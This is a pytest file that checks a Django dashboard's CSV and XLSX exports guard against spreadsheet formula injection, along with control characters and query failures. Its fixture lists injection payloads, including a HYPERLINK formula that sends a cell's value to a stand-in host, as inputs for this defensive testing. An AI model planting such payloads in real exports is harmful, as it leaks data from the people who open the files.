"""Exports never carry a live spreadsheet formula, whatever people typed."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from dashboard import exports
from obligations.services import record_progress

BASE = "/en/a/qazvin-ikrc-rural-1397/export"
ATTACK = '=HYPERLINK("http://x/?"&A1,"click")'
DANGEROUS = [ATTACK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture
def entries(agreement, rural_staff, commitment):
    for _text in DANGEROUS:
        record_progress(
            commitment=commitment("B5"),
            author=rural_staff,
            happened_on=dt.date(2024, 5, 1),
            reported_status="in_progress",
            narrative="placeholder",
        )
    from obligations.models import ProgressEntry

    # Stored as typed (a form would also tidy white space; the exports must not rely on it).
    for entry, text in zip(ProgressEntry.objects.order_by("pk"), DANGEROUS, strict=True):
        ProgressEntry.objects.filter(pk=entry.pk).update(narrative=text, village=text)


def test_csv_cells_that_would_run_as_formulas_start_with_an_apostrophe(client, monitor, entries):
    client.force_login(monitor)
    response = client.get(f"{BASE}/entries/", {"format": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8").lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert sorted(row["What was done"] for row in rows) == sorted("'" + value for value in DANGEROUS)
    assert all(not row["What was done"].startswith(exports.FORMULA_STARTS) for row in rows)
    assert all(not row["Village"].startswith(exports.FORMULA_STARTS) for row in rows)


def test_xlsx_cells_are_text_and_read_exactly_as_typed(client, monitor, entries):
    client.force_login(monitor)
    data = b"".join(client.get(f"{BASE}/entries/", {"format": "xlsx"}).streaming_content)
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    header = [cell.value for cell in sheet[1]]
    column = header.index("What was done")
    cells = [row[column] for row in sheet.iter_rows(min_row=2)]
    # What the reader sees is unchanged (XML reads a carriage return back as a line feed).
    assert sorted(cell.value for cell in cells) == sorted(value.replace("\r", "\n") for value in DANGEROUS)
    assert {cell.data_type for cell in cells} == {"s"}
    with zipfile.ZipFile(io.BytesIO(data)) as book:
        assert "<f>" not in book.read("xl/worksheets/sheet1.xml").decode()


def test_numbers_and_dates_are_left_alone():
    assert exports._cell_text(-5) == "-5"
    assert exports._cell_text(dt.date(2024, 5, 1)) == "2024-05-01"
    assert exports._cell_text("بازدید میدانی") == "بازدید میدانی"


def test_control_characters_that_xlsx_cannot_hold_do_not_break_the_export(client, monitor, entries):
    from obligations.models import ProgressEntry

    ProgressEntry.objects.update(narrative="گزارش\x0bبا\x01نویسهٔ کنترلی")
    client.force_login(monitor)
    response = client.get(f"{BASE}/entries/", {"format": "xlsx"})
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).worksheets[0]
    assert (
        sheet.cell(row=2, column=[c.value for c in sheet[1]].index("What was done") + 1).value == "گزارشبانویسهٔ کنترلی"
    )


def test_a_csv_export_runs_its_query_before_it_starts_streaming(client, monitor, agreement, monkeypatch, caplog):
    """A failing query is an error page (here the database-outage 503), not a truncated 200 download."""
    from django.db import OperationalError

    def failing(*args, **kwargs):
        def rows():
            raise OperationalError("server closed the connection unexpectedly")
            yield  # pragma: no cover

        return rows()

    monkeypatch.setattr("dashboard.views.exports.entries_for", failing)
    client.force_login(monitor)
    response = client.get(f"{BASE}/entries/", {"format": "csv"})
    assert response.status_code == 503


def test_an_empty_export_still_has_its_header_row():
    response = exports.csv_response(exports.ENTRY_COLUMNS[:2], iter([]), "x")
    assert b"".join(response.streaming_content).decode().count("\n") == 1


def test_the_first_batch_of_a_queryset_is_read_before_answering(client, monitor, agreement, django_assert_num_queries):
    """The query runs in the view; a download nobody reads leaves no server-side cursor open."""
    from obligations.models import ProgressEntry

    with django_assert_num_queries(1):
        response = exports.csv_response(exports.ENTRY_COLUMNS[:1], ProgressEntry.objects.order_by("pk"), "x")
    with django_assert_num_queries(0):
        assert b"".join(response.streaming_content).decode().count("\n") == 1
